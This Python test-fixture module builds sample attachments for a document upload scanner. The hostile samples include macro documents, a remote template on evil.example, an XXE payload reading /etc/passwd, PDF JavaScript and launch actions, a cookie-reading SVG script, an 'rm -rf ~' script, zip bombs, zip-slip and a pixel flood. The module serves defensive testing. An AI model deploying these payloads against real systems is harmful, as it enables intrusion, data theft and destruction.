"""Real sample files for the attachment tests, built by the tests themselves.

Nothing is checked in: every file is made here from the libraries that write the real thing (python-docx,
openpyxl, Pillow, pillow-heif) or assembled by hand where no writer exists (macro-enabled Word, legacy
OLE compound files, PDFs, zip bombs, a pixel flood). Each builder returns bytes; `write_samples(folder)`
writes them all to a folder for the functional and browser tests, which need paths.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from pathlib import Path

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

# A point in a park in Leeds: the kind of thing a photo of a child must never carry out of the portal.
GPS_LATITUDE = (53.0, 48.0, 2.5)
GPS_LONGITUDE = (1.0, 32.0, 51.0)


# --- Word (.docx) and its unsafe relatives ------------------------------------------------------------------


@cache
def docx(text: str = "Notes from the home visit on 3 March.") -> bytes:
    import docx as python_docx

    document = python_docx.Document()
    document.add_heading("Supporting notes", level=1)
    document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def docx_with_picture_and_table() -> bytes:
    """A Word document as people really send them: a photo in the text and a table."""
    import docx as python_docx
    from docx.shared import Cm

    document = python_docx.Document()
    document.add_paragraph("Photo of the bedroom, taken on the visit:")
    document.add_picture(io.BytesIO(jpeg_with_gps()), width=Cm(4))
    table = document.add_table(rows=2, cols=2)
    table.cell(0, 0).text = "Date"
    table.cell(0, 1).text = "3 March 2026"
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def rezip(
    source: bytes,
    *,
    add: dict[str, bytes] | None = None,
    replace: dict[str, bytes] | None = None,
    content_types: Callable[[str], str] | None = None,
) -> bytes:
    """Copy a zip, adding or replacing entries and optionally rewriting [Content_Types].xml."""
    add = add or {}
    replace = replace or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(source)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = replace.get(info.filename, zin.read(info))
            if info.filename == "[Content_Types].xml" and content_types is not None:
                data = content_types(data.decode()).encode()
            zout.writestr(info.filename, data)
        for name, data in add.items():
            zout.writestr(name, data)
    return out.getvalue()


def _add_override(part: str, content_type: str) -> Callable[[str], str]:
    return lambda xml: xml.replace(
        "</Types>", f'<Override PartName="/{part}" ContentType="{content_type}"/></Types>'
    )


def _add_default(extension: str, content_type: str) -> Callable[[str], str]:
    return lambda xml: xml.replace(
        "</Types>", f'<Default Extension="{extension}" ContentType="{content_type}"/></Types>'
    )


WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
WORD_MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
VBA_PROJECT = "application/vnd.ms-office.vbaProject"


def docm() -> bytes:
    """A macro-enabled Word document as Word writes one: macroEnabled main part and a vbaProject.bin."""
    return rezip(
        docx(),
        add={
            "word/vbaProject.bin": legacy_doc_with_macros(),
            "word/_rels/vbaProject.bin.rels": _rels([]),
        },
        content_types=lambda xml: _add_default("bin", VBA_PROJECT)(xml.replace(WORD_MAIN, WORD_MACRO_MAIN)),
    )


def docx_with_vba_project() -> bytes:
    """A .docx content type that still smuggles a vbaProject.bin (Word would run it once renamed .docm)."""
    return rezip(docx(), add={"word/vbaProject.bin": legacy_doc_with_macros()})


def docx_with_activex() -> bytes:
    control = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
        b'ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" ax:persistence="persistStorage"/>'
    )
    return rezip(
        docx(),
        add={"word/activeX/activeX1.xml": control},
        content_types=_add_override("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"),
    )


def docx_with_embedded_xlsx() -> bytes:
    """What Word makes when a spreadsheet is pasted as an object (or a chart keeps its data)."""
    return rezip(
        docx(),
        add={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx()},
        content_types=_add_default(
            "xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        ),
    )


def docx_with_ole_object() -> bytes:
    return rezip(
        docx(),
        add={"word/embeddings/oleObject1.bin": xls()},
        content_types=_add_default("bin", "application/vnd.openxmlformats-officedocument.oleObject"),
    )


def docx_with_remote_template() -> bytes:
    """Template injection: Word fetches (and runs the macros of) a template from a URL on opening."""
    rels = _rels(
        [
            (
                "rId99",
                "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate",
                "https://evil.example/template.dotm",
                "External",
            )
        ]
    )
    return rezip(docx(), add={"word/_rels/settings.xml.rels": rels})


def docx_with_hyperlink() -> bytes:
    """External hyperlinks are ordinary and must not be mistaken for remote content."""
    import docx as python_docx
    from docx.opc.constants import RELATIONSHIP_TYPE

    document = python_docx.Document(io.BytesIO(docx()))
    document.part.relate_to("https://www.gov.uk/", RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _rels(relationships: list[tuple[str, str, str, str | None]]) -> bytes:
    body = "".join(
        f'<Relationship Id="{rid}" Type="{rtype}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "")
        + "/>"
        for rid, rtype, target, mode in relationships
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{body}</Relationships>"
    ).encode()


def docx_with_xxe() -> bytes:
    """A [Content_Types].xml with an external entity: defusedxml must refuse it, not fetch it."""
    return rezip(
        docx(),
        content_types=lambda xml: xml.replace(
            "<Types ",
            '<!DOCTYPE Types [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><Types ',
            1,
        ).replace("</Types>", "<Default Extension='x' ContentType='&xxe;'/></Types>"),
    )


def docx_with_eicar() -> bytes:
    """An otherwise acceptable Word document with the EICAR test string in its text, for the virus scan."""
    return docx("Test " + EICAR.decode())


# --- spreadsheets -----------------------------------------------------------------------------------------


@cache
def xlsx() -> bytes:
    import openpyxl

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["Item", "Cost"])
    sheet.append(["Nappies", 12.5])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def xlsm() -> bytes:
    return rezip(
        xlsx(),
        add={"xl/vbaProject.bin": legacy_doc_with_macros()},
        content_types=lambda xml: xml.replace(
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        ),
    )


def csv() -> bytes:
    return b"Item,Cost\r\nNappies,12.50\r\n"


# --- OpenDocument -----------------------------------------------------------------------------------------

_ODF_MANIFEST = """<?xml version="1.0" encoding="UTF-8"?>
<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">
 <manifest:file-entry manifest:full-path="/" manifest:media-type="{mimetype}"/>
 <manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>
{extra}</manifest:manifest>
"""

_ODT_CONTENT = """<?xml version="1.0" encoding="UTF-8"?>
<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
 xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">
 <office:body><office:text><text:p>Notes from the home visit.</text:p></office:text></office:body>
</office:document-content>
"""

_ODS_CONTENT = """<?xml version="1.0" encoding="UTF-8"?>
<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
 xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" office:version="1.2">
 <office:body><office:spreadsheet><table:table table:name="Sheet1"/></office:spreadsheet></office:body>
</office:document-content>
"""


def _odf(
    mimetype: str, content: str, extra: dict[str, bytes] | None = None, manifest_extra: str = ""
) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        # The ODF rule: "mimetype" first and stored, so the type can be read at a fixed offset.
        zf.writestr(zipfile.ZipInfo("mimetype"), mimetype, compress_type=zipfile.ZIP_STORED)
        zf.writestr("content.xml", content)
        for name, data in (extra or {}).items():
            zf.writestr(name, data)
        zf.writestr("META-INF/manifest.xml", _ODF_MANIFEST.format(mimetype=mimetype, extra=manifest_extra))
    return out.getvalue()


def odt() -> bytes:
    return _odf("application/vnd.oasis.opendocument.text", _ODT_CONTENT)


def odt_with_macros() -> bytes:
    """LibreOffice keeps Basic macros in a Basic/ folder of the document."""
    module = (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<script:module xmlns:script="http://openoffice.org/2000/script" '
        b'script:name="Module1" script:language="StarBasic">Sub Main\nShell("calc")\nEnd Sub</script:module>'
    )
    return _odf(
        "application/vnd.oasis.opendocument.text",
        _ODT_CONTENT,
        extra={"Basic/Standard/Module1.xml": module, "Basic/script-lc.xml": b"<library:libraries/>"},
        manifest_extra=' <manifest:file-entry manifest:full-path="Basic/Standard/Module1.xml" '
        'manifest:media-type="text/xml"/>\n',
    )


def ods() -> bytes:
    return _odf("application/vnd.oasis.opendocument.spreadsheet", _ODS_CONTENT)


# --- OLE compound files (legacy Office) ------------------------------------------------------------------


def ole_compound_file(streams: dict[str, bytes]) -> bytes:
    """Assemble a version 3 compound file (MS-CFB) holding the given streams; "A/B/c" makes storages.

    No Python library writes these, so this is a minimal writer: 512-byte sectors, one FAT, no mini
    stream (every stream is padded to the 4096-byte cut-off so it lives in ordinary sectors), the
    siblings of each storage linked as a simple chain (readers do not check the red-black colouring).
    """
    sector = 512
    free, end_of_chain, fat_sector, no_stream = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF

    # Directory tree: entry 0 is the root; storages and streams follow in path order.
    entries: list[dict] = [{"name": "Root Entry", "type": 5, "children": [], "data": b""}]
    index_of: dict[str, int] = {"": 0}
    for path, data in streams.items():
        parts = path.split("/")
        for depth in range(1, len(parts) + 1):
            key = "/".join(parts[:depth])
            if key in index_of:
                continue
            is_stream = depth == len(parts)
            padded = data + b"\0" * max(0, 4096 - len(data)) if is_stream else b""
            entries.append(
                {"name": parts[depth - 1], "type": 2 if is_stream else 1, "children": [], "data": padded}
            )
            index_of[key] = len(entries) - 1
            entries[index_of["/".join(parts[: depth - 1])]]["children"].append(index_of[key])

    # Stream data first, sector-aligned, each in a contiguous chain.
    fat: list[int] = []
    body = bytearray()
    for entry in entries:
        data = entry["data"]
        if entry["type"] != 2:
            entry["start"], entry["size"] = end_of_chain, 0
            continue
        count = -(-len(data) // sector)
        entry["start"], entry["size"] = len(fat), len(data)
        fat.extend(range(len(fat) + 1, len(fat) + count))
        fat.append(end_of_chain)
        body += data + b"\0" * (count * sector - len(data))

    def sort_key(index: int) -> tuple[int, str]:
        name = entries[index]["name"]
        return (len(name), name.upper())

    for entry in entries:
        entry["left"] = entry["right"] = no_stream
    for entry in entries:
        children = sorted(entry["children"], key=sort_key)
        entry["child"] = children[0] if children else no_stream
        for this, following in zip(children, children[1:], strict=False):
            entries[this]["right"] = following

    directory = bytearray()
    for entry in entries:
        name = entry["name"].encode("utf-16-le") + b"\0\0"
        directory += struct.pack(
            "<64sHBBIII16sIQQIQ",
            name,
            len(name),
            entry["type"],
            1,  # black
            entry["left"],
            entry["right"],
            entry["child"],
            b"\0" * 16,
            0,
            0,
            0,
            entry["start"],
            entry["size"],
        )
    empty = struct.pack(
        "<64sHBBIII16sIQQIQ", b"", 0, 0, 0, no_stream, no_stream, no_stream, b"", 0, 0, 0, 0, 0
    )
    while len(directory) % sector:
        directory += empty
    directory_start = len(fat)
    directory_sectors = len(directory) // sector
    fat.extend(range(directory_start + 1, directory_start + directory_sectors))
    fat.append(end_of_chain)

    # The FAT describes itself too: grow it until it has room for its own sectors.
    fat_sectors = 1
    while (len(fat) + fat_sectors) > fat_sectors * (sector // 4):
        fat_sectors += 1
    fat_start = len(fat)
    fat.extend([fat_sector] * fat_sectors)
    fat.extend([free] * (fat_sectors * (sector // 4) - len(fat)))
    if fat_sectors > 109:
        raise ValueError("sample too large for a header-only DIFAT")

    difat = [fat_start + i for i in range(fat_sectors)] + [free] * (109 - fat_sectors)
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        b"\0" * 16,
        0x003E,
        0x0003,
        0xFFFE,
        9,
        6,
        b"\0" * 6,
        0,
        fat_sectors,
        directory_start,
        0,
        4096,
        end_of_chain,
        0,
        end_of_chain,
        0,
    ) + struct.pack("<109I", *difat)
    assert len(header) == sector
    return header + bytes(body) + bytes(directory) + struct.pack(f"<{len(fat)}I", *fat)


def _word_fib(encrypted: bool = False) -> bytes:
    # The start of a File Information Block: wIdent 0xA5EC, nFib 0x00C1 (Word 97 and later), flags.
    flags = 0x0100 if encrypted else 0
    return struct.pack("<HHHHHH", 0xA5EC, 0x00C1, 0, 0x0409, 0, flags) + b"\0" * 500


def legacy_doc() -> bytes:
    return ole_compound_file({"WordDocument": _word_fib(), "1Table": b"\0" * 64})


def legacy_doc_with_macros() -> bytes:
    """The storages Word 97-2003 keeps a VBA project in; enough for olefile and oletools to see macros."""
    return ole_compound_file(
        {
            "WordDocument": _word_fib(),
            "1Table": b"\0" * 64,
            "Macros/PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\n'
            b"Document=ThisDocument/&H00000000\r\n",
            "Macros/VBA/dir": b"\x01" + b"\0" * 64,
            "Macros/VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00",
            "Macros/VBA/ThisDocument": b'Sub AutoOpen()\r\nShell "calc"\r\nEnd Sub\r\n',
        }
    )


def legacy_doc_encrypted() -> bytes:
    return ole_compound_file({"WordDocument": _word_fib(encrypted=True), "1Table": b"\0" * 64})


def xls() -> bytes:
    """An Excel 97-2003 workbook's container: a Workbook stream starting with a BIFF8 BOF record."""
    bof = struct.pack("<HHHHHHII", 0x0809, 16, 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0)
    return ole_compound_file({"Workbook": bof})


def encrypted_ooxml() -> bytes:
    """What a password-protected .docx really is: an OLE file wrapping the encrypted package."""
    return ole_compound_file(
        {"EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00", "EncryptedPackage": b"\1" * 64}
    )


# --- PDF --------------------------------------------------------------------------------------------------


def _pdf(objects: list[bytes], *, comment: bytes = b"") -> bytes:
    """A PDF with a correct cross-reference table; object 1 is the catalog."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + comment)
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def _pdf_page_objects(text: bytes = b"Supporting notes") -> list[bytes]:
    content = b"BT /F1 18 Tf 72 720 Td (" + text + b") Tj ET"
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]


def pdf() -> bytes:
    return _pdf(_pdf_page_objects())


def pdf_with_javascript() -> bytes:
    objects = _pdf_page_objects()
    objects[0] = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>"
    objects.append(b"<< /Type /Action /S /JavaScript /JS (app.alert('hello')) >>")
    return _pdf(objects)


def pdf_with_escaped_javascript() -> bytes:
    """/J#61vaScript is /JavaScript to a PDF reader: names may spell any character as #xx."""
    objects = _pdf_page_objects()
    objects[0] = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>"
    objects.append(b"<< /Type /Action /S /J#61vaScript /J#53 (app.alert('hello')) >>")
    return _pdf(objects)


def pdf_with_javascript_in_object_stream() -> bytes:
    """The action dictionary compressed inside an object stream, where a plain byte search cannot see it."""
    action = b"<< /Type /Action /S /JavaScript /JS (app.alert('hidden')) >>"
    header = b"6 0 "
    packed = zlib.compress(header + action)
    objects = _pdf_page_objects()
    objects[0] = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>"
    objects.append(
        b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(header), len(packed))
        + packed
        + b"\nendstream"
    )
    return _pdf(objects)


def pdf_with_launch() -> bytes:
    objects = _pdf_page_objects()
    objects[0] = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>"
    objects.append(b"<< /Type /Action /S /Launch /F (cmd.exe) >>")
    return _pdf(objects)


def pdf_with_embedded_file() -> bytes:
    objects = _pdf_page_objects()
    objects[0] = b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 6 0 R >> >>"
    payload = b"MZ not really"
    objects.append(b"<< /Names [(a.exe) 7 0 R] >>")
    objects.append(b"<< /Type /Filespec /F (a.exe) /EF << /F 8 0 R >> >>")
    objects.append(
        b"<< /Type /EmbeddedFile /Length %d >>\nstream\n" % len(payload) + payload + b"\nendstream"
    )
    return _pdf(objects)


def pdf_with_stream(payload: bytes, dictionary: bytes = b"/Subtype /Image /Width 1 /Height 1") -> bytes:
    """A valid PDF with one extra stream object carrying `payload` as it is (compressed data, say)."""
    objects = _pdf_page_objects()
    objects.append(b"<< %s /Length %d >>\nstream\n" % (dictionary, len(payload)) + payload + b"\nendstream")
    return _pdf(objects)


def pdf_with_encrypted_object_stream() -> bytes:
    """An object stream whose data cannot be inflated (as when the PDF is encrypted)."""
    return pdf_with_stream(bytes(range(256)) * 4, b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")


def pdf_with_eicar() -> bytes:
    """A valid, harmless PDF that carries the EICAR test string in a comment, for the virus scan."""
    return _pdf(_pdf_page_objects(), comment=b"%" + EICAR + b"\n")


# --- images -----------------------------------------------------------------------------------------------


def _two_tone(width: int = 60, height: int = 40):
    """Red on the left half, blue on the right: after rotation the halves show which way it turned."""
    from PIL import Image

    image = Image.new("RGB", (width, height), (220, 20, 20))
    image.paste((20, 20, 220), (width // 2, 0, width, height))
    return image


def _gps_exif(orientation: int = 6):
    from PIL import ExifTags, Image

    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.Base.Make] = "PhoneMaker"
    exif[ExifTags.Base.Model] = "Phone 12"
    exif[ExifTags.Base.ImageDescription] = "Jamie at the park"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = GPS_LATITUDE
    gps[ExifTags.GPS.GPSLongitudeRef] = "W"
    gps[ExifTags.GPS.GPSLongitude] = GPS_LONGITUDE
    return exif


XMP = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    b'<rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="53,48.04N" '
    b'exif:GPSLongitude="1,32.85W"/></rdf:RDF></x:xmpmeta>'
)


def _srgb_icc() -> bytes:
    from PIL import ImageCms

    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def jpeg_with_gps(orientation: int = 6) -> bytes:
    """A 60x40 photo tagged "rotate 90° clockwise" (so it shows 40x60), with GPS EXIF, XMP, a comment and
    an ICC profile: everything a phone might write."""
    out = io.BytesIO()
    _two_tone().save(
        out,
        "JPEG",
        quality=95,
        exif=_gps_exif(orientation),
        xmp=XMP,
        comment=b"taken at 14 Acacia Avenue",
        icc_profile=_srgb_icc(),
    )
    return out.getvalue()


def png(with_metadata: bool = True) -> bytes:
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    if with_metadata:
        info.add_text("Comment", "taken at 14 Acacia Avenue")
        info.add_itxt("XML:com.adobe.xmp", XMP.decode())
    image = _two_tone().convert("RGBA")
    image.putpixel((0, 0), (0, 0, 0, 0))
    out = io.BytesIO()
    image.save(out, "PNG", pnginfo=info, exif=_gps_exif(1) if with_metadata else None)
    return out.getvalue()


def gif() -> bytes:
    """A two-frame animation with a comment."""
    first = _two_tone().convert("P", palette=1)
    second = _two_tone().transpose(0).convert("P", palette=1)
    out = io.BytesIO()
    first.save(out, "GIF", save_all=True, append_images=[second], duration=200, comment=b"Acacia Avenue")
    return out.getvalue()


def heic() -> bytes:
    """An iPhone-style HEIC with GPS EXIF."""
    import pillow_heif

    out = io.BytesIO()
    heif = pillow_heif.from_pillow(_two_tone())
    heif.save(out, quality=80, exif=_gps_exif(1).tobytes())
    return out.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def pixel_flood_png(width: int = 100_000, height: int = 100_000) -> bytes:
    """A few hundred bytes that declare a 10-gigapixel image: decoding it would need tens of gigabytes."""
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1-bit greyscale
    # One row of compressed zeros is enough for the header to be believed.
    idat = zlib.compress(b"\0" * (1 + (width + 7) // 8))
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


def svg() -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b"<script>alert(document.cookie)</script><rect width='10' height='10'/></svg>"
    )


def html() -> bytes:
    return b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"


# --- programs and archives --------------------------------------------------------------------------------


def exe() -> bytes:
    """The start of a Windows program: an MZ header pointing at a PE signature."""
    dos = bytearray(b"MZ" + b"\0" * 62)
    dos[0x3C:0x40] = struct.pack("<I", 64)
    return bytes(dos) + b"PE\0\0" + b"\x4c\x01" + b"\0" * 200


def elf() -> bytes:
    return b"\x7fELF\x02\x01\x01" + b"\0" * 100


def shell_script() -> bytes:
    return b"#!/bin/sh\nrm -rf ~\n"


def plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("notes.txt", "hello")
        zf.writestr("photo.jpg", jpeg_with_gps())
    return out.getvalue()


def seven_zip() -> bytes:
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\0" * 24


def _stream_zeros(archive: zipfile.ZipFile, name: str, megabytes: int) -> None:
    # Opened by name, the entry takes the archive's compression level (1: fast, still over 200:1).
    megabyte = b"\0" * (1024 * 1024)
    with archive.open(name, "w") as entry:
        for _ in range(megabytes):
            entry.write(megabyte)


def _fast_zip(out: io.BytesIO) -> zipfile.ZipFile:
    return zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1)


@cache
def zip_bomb(uncompressed_mb: int = 120) -> bytes:
    """One entry of zeros that inflates to `uncompressed_mb` MB (over 200:1), with honest headers."""
    out = io.BytesIO()
    with _fast_zip(out) as zf:
        _stream_zeros(zf, "zeros.bin", uncompressed_mb)
    return out.getvalue()


@cache
def zip_bomb_docx(uncompressed_mb: int = 120) -> bytes:
    """A real .docx with one extra part that inflates to `uncompressed_mb` MB."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx())) as zin, _fast_zip(out) as zout:
        for entry in zin.infolist():
            zout.writestr(entry.filename, zin.read(entry))
        _stream_zeros(zout, "word/media/padding.bin", uncompressed_mb)
    return out.getvalue()


def _patch_declared_size(data: bytes, name: str, declared: int) -> bytes:
    """Rewrite an entry's uncompressed size in both its local header and the central directory."""
    patched = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        offset = archive.getinfo(name).header_offset
    struct.pack_into("<I", patched, offset + 22, declared)
    encoded = name.encode()
    position = patched.find(b"PK\x01\x02")
    while position >= 0:
        name_length = struct.unpack_from("<H", patched, position + 28)[0]
        if patched[position + 46 : position + 46 + name_length] == encoded:
            struct.pack_into("<I", patched, position + 24, declared)
        position = patched.find(b"PK\x01\x02", position + 4)
    return bytes(patched)


def zip_with_lying_sizes() -> bytes:
    """A .docx whose extra part says it holds 1 KB but inflates to 20 MB: headers must not be trusted."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx())) as zin, _fast_zip(out) as zout:
        for entry in zin.infolist():
            zout.writestr(entry.filename, zin.read(entry))
        _stream_zeros(zout, "word/media/image1.png", 20)
    return _patch_declared_size(out.getvalue(), "word/media/image1.png", 1024)


def zip_with_many_entries(count: int = 1500) -> bytes:
    extra = {f"word/media/empty{i}.txt": b"" for i in range(count)}
    return rezip(docx(), add=extra)


def zip_slip(entry: str = "../../evil.sh") -> bytes:
    """A .docx carrying an entry whose name climbs out of wherever it is unpacked."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx())) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, zin.read(info))
        zout.writestr(zipfile.ZipInfo(entry), b"#!/bin/sh\necho owned\n")
    return out.getvalue()


# --- the fixture folder -----------------------------------------------------------------------------------

# File name -> builder, for tests that need files on disk (set_input_files, multipart posts).
SAMPLES: dict[str, Callable[[], bytes]] = {
    "notes.docx": docx,
    "notes-legacy.doc": legacy_doc,
    "notes.odt": odt,
    "report.pdf": pdf,
    "photo.jpg": jpeg_with_gps,
    "drawing.png": png,
    "wave.gif": gif,
    "photo.heic": heic,
    "budget.xlsx": xlsx,
    "budget-renamed.docx": xlsx,
    "budget.xls": xls,
    "budget.csv": csv,
    "budget.ods": ods,
    "macros.docm": docm,
    "macros-renamed.docx": docm,
    "macros.doc": legacy_doc_with_macros,
    "active.pdf": pdf_with_javascript,
    "drawing.svg": svg,
    "setup.exe": exe,
    "archive.zip": plain_zip,
    "bomb.docx": zip_bomb_docx,
    "slip.docx": zip_slip,
    "flood.png": pixel_flood_png,
    "eicar.pdf": pdf_with_eicar,
    "eicar.txt": lambda: EICAR,
}


def write_samples(folder: Path, names: list[str] | None = None) -> dict[str, Path]:
    """Write the named samples (all by default) into `folder` and return their paths by name."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = {}
    for name in names or list(SAMPLES):
        path = folder / name
        path.write_bytes(SAMPLES[name]())
        paths[name] = path
    return paths
